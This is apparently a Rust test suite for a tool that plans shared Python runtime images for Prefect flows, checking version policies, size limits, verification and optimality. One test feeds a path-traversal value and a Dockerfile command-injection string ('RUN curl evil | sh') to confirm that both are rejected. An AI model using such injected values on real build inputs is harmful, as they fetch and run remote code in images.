use std::collections::HashMap;
use std::str::FromStr;

use pep440_rs::Version;
use proptest::prelude::*;

use super::*;
use crate::rules::{Rules, normalize};

fn small(flows: usize, seed: u64) -> Inventory {
    synthetic::inventory(&synthetic::Spec {
        flows,
        pythons: vec!["3.10".into(), "3.11".into()],
        distributions: 12,
        teams: 4,
        per_flow: (2, 6),
        max_versions: 4,
        seed,
    })
}

/// The distributions of the image the flow `key` runs on.
fn distributions_of<'a>(inv: &'a Inventory, key: &str) -> &'a [crate::inventory::Distribution] {
    let f = inv.flows.iter().find(|f| f.key == key).unwrap();
    let img = inv
        .images
        .iter()
        .find(|i| Some(&i.id) == f.link.image_id.as_ref())
        .unwrap();
    &img.contents.as_ref().unwrap().python.distributions
}

fn rules(extra: &str) -> Rules {
    let mut r = Rules::default_rules();
    r.merge_text("test.toml", extra).unwrap();
    r
}

/// Every member allows its image's pin of every distribution it has, by the policy
/// evaluated afresh (not the solver's bitsets).
fn jointly_satisfied(inv: &Inventory, rules: &Rules, plan: &Plan) -> Result<(), String> {
    let flows: HashMap<&str, &crate::inventory::Flow> =
        inv.flows.iter().map(|f| (f.key.as_str(), f)).collect();
    let images: HashMap<&str, &crate::inventory::Image> =
        inv.images.iter().map(|i| (i.id.as_str(), i)).collect();
    for img in &plan.runtime_images {
        let pins: HashMap<&str, &str> = img
            .requirements
            .iter()
            .map(|r| (r.name.as_str(), r.version.as_str()))
            .collect();
        for m in &img.members {
            let f = flows[m.as_str()];
            let image = images[f.link.image_id.as_deref().unwrap()];
            for d in &image.contents.as_ref().unwrap().python.distributions {
                if rules.ignore.contains(&d.name) {
                    continue;
                }
                let to = pins
                    .get(d.name.as_str())
                    .ok_or(format!("{m}: {} missing", d.name))?;
                let spec = rules
                    .policy_for(&d.name)
                    .allowed(&Version::from_str(&d.version).unwrap());
                if !spec.contains(&Version::from_str(to).unwrap()) {
                    return Err(format!(
                        "{m}: {} {} → {to} breaks {spec}",
                        d.name, d.version
                    ));
                }
            }
        }
    }
    Ok(())
}

#[test]
fn exact_policy_gives_one_image_per_distinct_requirement_set() {
    let inv = small(40, 7);
    let r = rules("[versions]\ndefault = \"exact\"\n[versions.packages]\nprefect = \"exact\"\n");
    let s = solve(&inv, &r, &Options::default()).unwrap();
    // under `exact`, two flows conflict unless every shared distribution has one version
    assert!(s.plan.summary.runtime_images >= s.plan.summary.lower_bound);
    assert_eq!(s.plan.summary.planned, 40);
    jointly_satisfied(&inv, &r, &s.plan).unwrap();
    // relaxing the policy never needs more images
    let relaxed = solve(
        &inv,
        &rules("[versions]\ndefault = \">=0\"\n"),
        &Options::default(),
    )
    .unwrap();
    assert!(relaxed.plan.summary.runtime_images <= s.plan.summary.runtime_images);
    // with every version allowed only Python separates flows
    assert_eq!(
        relaxed.plan.summary.runtime_images, 2,
        "{:?}",
        relaxed.plan.partitions
    );
}

#[test]
fn files_and_names_are_content_addressed() {
    let inv = small(30, 3);
    let s = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
    let again = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
    assert_eq!(
        s.plan.runtime_images, again.plan.runtime_images,
        "deterministic"
    );
    for img in &s.plan.runtime_images {
        assert!(img.name.starts_with(&format!(
            "registry.example.com/prefect/runtime:{}-",
            img.python
        )));
        assert!(img.name.ends_with(&img.content_hash));
        let req = &s
            .files
            .iter()
            .find(|(p, _)| *p == img.requirements_file)
            .unwrap()
            .1;
        assert_eq!(
            req.lines().filter(|l| l.contains("==")).count(),
            img.requirements.len()
        );
        let df = &s
            .files
            .iter()
            .find(|(p, _)| *p == img.dockerfile)
            .unwrap()
            .1;
        assert!(
            df.contains(&format!("FROM python:{}-slim-bookworm", img.python)),
            "{df}"
        );
        assert!(!img.requirements.iter().any(|r| r.name == "pip"), "ignored");
    }
}

#[test]
fn a_separate_group_never_shares() {
    let inv = small(40, 11);
    let r = rules("[[separate]]\nname = \"heavy\"\ndistributions = [\"dist-000\"]\n");
    let s = solve(&inv, &r, &Options::default()).unwrap();
    for img in &s.plan.runtime_images {
        let heavy = img.requirements.iter().any(|p| p.name == "dist-000");
        assert_eq!(heavy, img.group.as_deref() == Some("heavy"), "{}", img.name);
    }
    let alone =
        rules("[[separate]]\nname = \"heavy\"\ndistributions = [\"dist-000\"]\nmode = \"alone\"\n");
    let s2 = solve(&inv, &alone, &Options::default()).unwrap();
    assert!(s2.plan.summary.runtime_images >= s.plan.summary.runtime_images);
}

#[test]
fn size_limit_splits_images() {
    let inv = small(40, 5);
    let s = solve(
        &inv,
        &rules("[image]\nmax_bytes = 30_000_000\n"),
        &Options::default(),
    )
    .unwrap();
    let needs = |key: &str| {
        let mut d: Vec<(String, String)> = distributions_of(&inv, key)
            .iter()
            .map(|d| (d.name.clone(), d.version.clone()))
            .collect();
        d.sort();
        d
    };
    for img in &s.plan.runtime_images {
        // one requirement may exceed the limit on its own; a shared image may not
        let distinct: std::collections::BTreeSet<_> =
            img.members.iter().map(|m| needs(m)).collect();
        if distinct.len() > 1 {
            assert!(
                img.estimated_bytes <= 30_000_000,
                "{} {}",
                img.name,
                img.estimated_bytes
            );
        }
    }
    assert!(s.plan.summary.splits > 0);
}

#[test]
fn bytes_objective_trades_images_for_bytes() {
    let inv = small(60, 9);
    let r = Rules::default_rules();
    let fewest = solve(&inv, &r, &Options::default()).unwrap();
    let cheap = solve(
        &inv,
        &r,
        &Options {
            objective: Objective::Bytes { image_weight: 1 },
            ..Options::default()
        },
    )
    .unwrap();
    let (a, b) = (fewest.plan.summary.chosen, cheap.plan.summary.chosen);
    assert!(b.images >= a.images);
    assert!(b.unneeded_bytes <= a.unneeded_bytes, "{a:?} vs {b:?}");
    assert_eq!(cheap.plan.summary.fewest_images.images, a.images);
    jointly_satisfied(&inv, &r, &cheap.plan).unwrap();
}

#[test]
fn unplanned_flows_say_why() {
    let mut inv = small(5, 1);
    inv.flows[0].requirement = None;
    inv.flows[0].link.status = crate::inventory::LinkStatus::Dangling;
    inv.flows[1].requirement.as_mut().unwrap().python = Some("3.7".into());
    let s = solve(
        &inv,
        &rules("[python]\nversions = [\"3.10\", \"3.11\"]\n"),
        &Options::default(),
    )
    .unwrap();
    assert_eq!(s.plan.unplanned.len(), 2);
    assert!(s.plan.unplanned[0].reason.contains("no scanned source"));
    assert!(s.plan.unplanned[1].reason.contains("Python 3.7"));
    let e = s
        .explain(&inv, &Rules::default_rules(), &inv.flows[0].key)
        .unwrap_err();
    assert!(e.contains("not planned"), "{e}");
}

#[test]
fn archived_versions_are_left_out_and_verification_refuses_them() {
    let mut inv = small(6, 3);
    let planned_before = solve(&inv, &Rules::default_rules(), &Options::default())
        .unwrap()
        .plan
        .summary
        .planned;
    inv.flows[0].state = crate::inventory::FlowState::Archived;
    inv.flows[0].state_reason = Some("version 1 is archived".into());
    inv.flows[1].link.status = crate::inventory::LinkStatus::AlreadyMigrated;
    let s = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
    assert_eq!(s.plan.summary.excluded, 2);
    assert_eq!(s.plan.summary.planned, planned_before - 2);
    assert_eq!(s.plan.summary.flows, 4, "the flows to plan");
    assert!(s.plan.excluded[0].reason.contains("version 1 is archived"));
    assert!(s.plan.excluded[1].reason.starts_with("already migrated"));
    assert!(s.plan.flows.iter().all(|p| p.flow != inv.flows[0].key));

    // a plan that places an archived version (one made before it was archived, say)
    // fails verification, naming the flow
    let mut tampered = s.plan.clone();
    let mut placement = tampered.flows[0].clone();
    placement.flow = inv.flows[0].key.clone();
    tampered.runtime_images[0]
        .members
        .push(placement.flow.clone());
    tampered.flows.push(placement);
    let problems = verify::verify(&inv, &Rules::default_rules(), &tampered, &s.work.cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains(&inv.flows[0].key) && p.contains("not live (archived)")),
        "{problems:?}"
    );
}

#[test]
fn verification_refuses_an_import_nothing_provides_unless_the_plan_says_why() {
    // a module copied into the old image: no distribution provides it, the scan said so
    let mut inv = small(4, 7);
    let key = inv.flows[0].key.clone();
    let req = inv.flows[0].requirement.as_mut().unwrap();
    req.imported_modules.push("copied_in".into());
    req.unresolved_modules.push("copied_in".into());
    let s = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
    let placed = s.plan.flows.iter().find(|p| p.flow == key).unwrap();
    assert_eq!(placed.accepted_unprovided.len(), 1);
    assert!(
        placed.accepted_unprovided[0]
            .reason
            .contains("no scanned distribution provides it")
    );

    // the same plan without that reason fails verification, naming flow and module
    let mut tampered = s.plan.clone();
    for p in &mut tampered.flows {
        p.accepted_unprovided.clear();
    }
    let problems = verify::verify(&inv, &Rules::default_rules(), &tampered, &s.work.cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains(&key) && p.contains("copied_in")),
        "{problems:?}"
    );

    // an import the scan never classified is refused outright: solve returns the error
    let mut inv = small(4, 7);
    inv.flows[0]
        .requirement
        .as_mut()
        .unwrap()
        .imported_modules
        .push("from_nowhere".into());
    match solve(&inv, &Rules::default_rules(), &Options::default()) {
        Err(PlanError::Verification(p)) => {
            assert!(p.iter().any(|x| x.contains("from_nowhere")), "{p:?}")
        }
        Err(e) => panic!("another error: {e}"),
        Ok(_) => panic!("a plan with an unprovided import passed its verification"),
    }
}

#[test]
fn a_python_version_that_is_not_major_minor_is_refused_not_written() {
    let mut inv = small(3, 5);
    inv.flows[0].requirement.as_mut().unwrap().python = Some("../../../x".into());
    inv.flows[1].requirement.as_mut().unwrap().python = Some("3.11\nRUN curl evil | sh".into());
    let s = solve(&inv, &Rules::default_rules(), &Options::default()).unwrap();
    assert_eq!(s.plan.unplanned.len(), 2);
    assert!(
        s.plan
            .unplanned
            .iter()
            .all(|u| u.reason.contains("not MAJOR.MINOR"))
    );
    assert!(
        s.files
            .iter()
            .all(|(path, text)| !path.contains("..") && !text.contains("curl"))
    );
    assert!(demand::is_python_minor("3.11") && demand::is_python_minor("3.9"));
    assert!(
        !demand::is_python_minor("3")
            && !demand::is_python_minor("3.11.1")
            && !demand::is_python_minor("a.b")
    );
}

#[test]
fn explain_names_the_clash() {
    let inv = small(40, 7);
    let r = rules("[versions]\ndefault = \"exact\"\n");
    let s = solve(&inv, &r, &Options::default()).unwrap();
    // a flow whose requirement conflicts with another's
    let w = &s.work;
    let v = (0..w.vertices.len())
        .find(|&v| !w.conflicts[v].is_empty())
        .unwrap();
    let key = inv.flows[w.demands[w.vertices[v].demands[0]].flow]
        .key
        .clone();
    let text = s.explain(&inv, &r, &key).unwrap();
    assert!(
        text.contains("runs on   registry.example.com/prefect/runtime:"),
        "{text}"
    );
    assert!(text.contains("(exact → =="), "{text}");
    assert!(s.explain(&inv, &r, "nope").unwrap_err().contains("no flow"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    /// Random requirement sets: every runtime image is jointly satisfiable and the plan
    /// passes its own verification, under several policies.
    #[test]
    fn every_image_is_jointly_satisfiable(seed in any::<u64>(), flows in 1usize..60, policy in 0usize..4) {
        let inv = small(flows, seed);
        let policy = ["exact", "patch", "minor", "compatible"][policy];
        let r = rules(&format!("[versions]\ndefault = \"{policy}\"\n"));
        let s = solve(&inv, &r, &Options::default()).map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert!(jointly_satisfied(&inv, &r, &s.plan).is_ok());
        prop_assert_eq!(s.plan.summary.planned, flows);
        prop_assert!(s.plan.summary.runtime_images >= s.plan.summary.lower_bound);
        prop_assert_eq!(s.plan.summary.splits, 0, "named policies give intervals: no splits");
    }

    /// On instances small enough to brute-force, the plan uses the chromatic number of
    /// the conflict graph (per partition).
    #[test]
    fn small_plans_are_optimal(seed in any::<u64>(), flows in 1usize..14) {
        let inv = small(flows, seed);
        let r = rules("[versions]\ndefault = \"exact\"\n");
        let s = solve(&inv, &r, &Options::default()).map_err(|e| TestCaseError::fail(e.to_string()))?;
        let w = &s.work;
        let mut by_partition: HashMap<&demand::Partition, Vec<usize>> = HashMap::new();
        for (i, v) in w.vertices.iter().enumerate() {
            by_partition.entry(&v.partition).or_default().push(i);
        }
        let mut best = 0;
        for members in by_partition.values() {
            let index: HashMap<usize, usize> = members.iter().enumerate().map(|(i, &v)| (v, i)).collect();
            let mut g = Graph::new(members.len());
            for (i, &v) in members.iter().enumerate() {
                for &u in &w.conflicts[v] {
                    g.add_edge(i, index[&(u as usize)]);
                }
            }
            g.finish();
            best += colouring::brute_force_chromatic(&g);
        }
        prop_assert_eq!(s.plan.summary.runtime_images, best);
        prop_assert!(s.plan.summary.optimal);
    }
}

/// A fixed specifier binds the version a flow was built with too: `D = "<=V"` moves
/// flows built above V down to a seen version within it, and `D = "<LOWEST"` refuses
/// every flow that has D, naming the policy.
#[test]
fn a_specifier_policy_binds_the_built_version_too() {
    let inv = small(40, 3);
    let mut seen: std::collections::BTreeMap<String, Vec<Version>> = Default::default();
    for img in &inv.images {
        for d in &img.contents.as_ref().unwrap().python.distributions {
            seen.entry(d.name.clone())
                .or_default()
                .push(Version::from_str(&d.version).unwrap());
        }
    }
    let (name, mut versions) = seen
        .into_iter()
        .find(|(_, v)| {
            let mut v = v.clone();
            v.sort();
            v.dedup();
            v.len() >= 3
        })
        .expect("a distribution seen at three versions");
    versions.sort();
    versions.dedup();
    let mid = &versions[versions.len() / 2];
    let r = rules(&format!("[versions.packages]\n{name} = \"<={mid}\"\n"));
    let s = solve(&inv, &r, &Options::default()).unwrap();
    for img in &s.plan.runtime_images {
        for p in img.requirements.iter().filter(|p| p.name == name) {
            assert!(
                Version::from_str(&p.version).unwrap() <= *mid,
                "{name} pinned at {} above <={mid}",
                p.version
            );
        }
    }
    jointly_satisfied(&inv, &r, &s.plan).unwrap();
    let r = rules(&format!(
        "[versions.packages]\n{name} = \"<{}\"\n",
        versions[0]
    ));
    let s = solve(&inv, &r, &Options::default()).unwrap();
    assert!(
        !s.plan.unplanned.is_empty(),
        "every flow with {name} is refused"
    );
    assert!(
        s.plan.unplanned.iter().all(|u| u.reason.contains(&format!(
            "is allowed by the rules' policy `<{}`",
            versions[0]
        ))),
        "{:?}",
        s.plan.unplanned
    );
}

/// Each way a tampered plan can be wrong is refused by verification, naming the flow
/// (these are the mutants `cargo mutants --file src/plan/verify.rs` found surviving).
#[test]
fn verification_refuses_each_kind_of_tampered_plan() {
    let inv = small(12, 11);
    let r = Rules::default_rules();
    let s = solve(&inv, &r, &Options::default()).unwrap();
    let cat = &s.work.cat;
    assert!(verify::verify(&inv, &r, &s.plan, cat).is_empty());
    let first = s.plan.runtime_images[0].members[0].clone();

    // an image of the right Python but another OS family
    let mut t = s.plan.clone();
    t.runtime_images[0].os_family = "alpine".into();
    let problems = verify::verify(&inv, &r, &t, cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains(&first) && p.contains("alpine")),
        "{problems:?}"
    );

    // a pin its policy does not allow (a major bump, no prerelease)
    let mut t = s.plan.clone();
    let pin = &mut t.runtime_images[0].requirements[0];
    let name = pin.name.clone();
    pin.version = "999.0.0".into();
    let problems = verify::verify(&inv, &r, &t, cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains("does not allow 999.0.0")),
        "{name}: {problems:?}"
    );

    // the built version itself, when a rule excludes it: pinned as built, still refused
    let dist = distributions_of(&inv, &first)
        .iter()
        .find(|d| !r.ignore.contains(&normalize(&d.name)))
        .expect("a distribution the flow needs");
    let built = Version::from_str(&dist.version).unwrap();
    let strict = rules(&format!(
        "[versions.packages]\n{} = \"<{built}\"\n",
        dist.name
    ));
    let problems = verify::verify(&inv, &strict, &s.plan, cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains(&first) && p.contains(&format!("does not allow {built}"))),
        "{problems:?}"
    );

    // an import accepted without one, with an empty reason
    let mut inv2 = inv.clone();
    let req = inv2.flows.iter_mut().find(|f| f.key == first).unwrap();
    let req = req.requirement.as_mut().unwrap();
    req.imported_modules.push("copied_in".into());
    req.unresolved_modules.push("copied_in".into());
    let s2 = solve(&inv2, &r, &Options::default()).unwrap();
    let mut t = s2.plan.clone();
    for p in &mut t.flows {
        for a in &mut p.accepted_unprovided {
            a.reason.clear();
        }
    }
    let problems = verify::verify(&inv2, &r, &t, &s2.work.cat);
    assert!(
        problems
            .iter()
            .any(|p| p.contains(&first) && p.contains("copied_in")),
        "{problems:?}"
    );
}

/// With `from = "installed"`, what a flow needs is what its image has for the flow's
/// Python: a distribution installed for another interpreter of the image is not needed.
#[test]
fn installed_needs_are_the_distributions_of_the_flows_python() {
    let mut inv = small(6, 5);
    let r = rules("[requirements]\nfrom = \"installed\"\n");
    let s = solve(&inv, &r, &Options::default()).unwrap();
    let cat = &s.work.cat;
    assert!(verify::verify(&inv, &r, &s.plan, cat).is_empty());
    let member = s.plan.runtime_images[0].members[0].clone();
    let flow = inv.flows.iter().find(|f| f.key == member).unwrap().clone();
    let image_id = flow.link.image_id.clone().unwrap();
    let python = flow.requirement.as_ref().unwrap().python.clone().unwrap();
    let other = if python == "3.10" { "3.11" } else { "3.10" };
    let img = inv.images.iter_mut().find(|i| i.id == image_id).unwrap();
    let dists = &mut img.contents.as_mut().unwrap().python.distributions;
    let (a, b) = (dists[0].name.clone(), dists[1].name.clone());
    // `a` is for another interpreter of the image, `b` for the flow's own
    dists[0].python = Some(other.into());
    dists[1].python = Some(python.clone());
    let mut t = s.plan.clone();
    for img in &mut t.runtime_images {
        img.requirements
            .retain(|p| normalize(&p.name) != normalize(&a) && normalize(&p.name) != normalize(&b));
    }
    let problems = verify::verify(&inv, &r, &t, cat);
    let lacks = |n: &str| {
        problems
            .iter()
            .any(|p| p.contains(&member) && p.contains(&format!("needs {}, which", normalize(n))))
    };
    assert!(
        lacks(&b),
        "the flow's own Python's distribution is needed: {problems:?}"
    );
    assert!(!lacks(&a), "another interpreter's is not: {problems:?}");
}
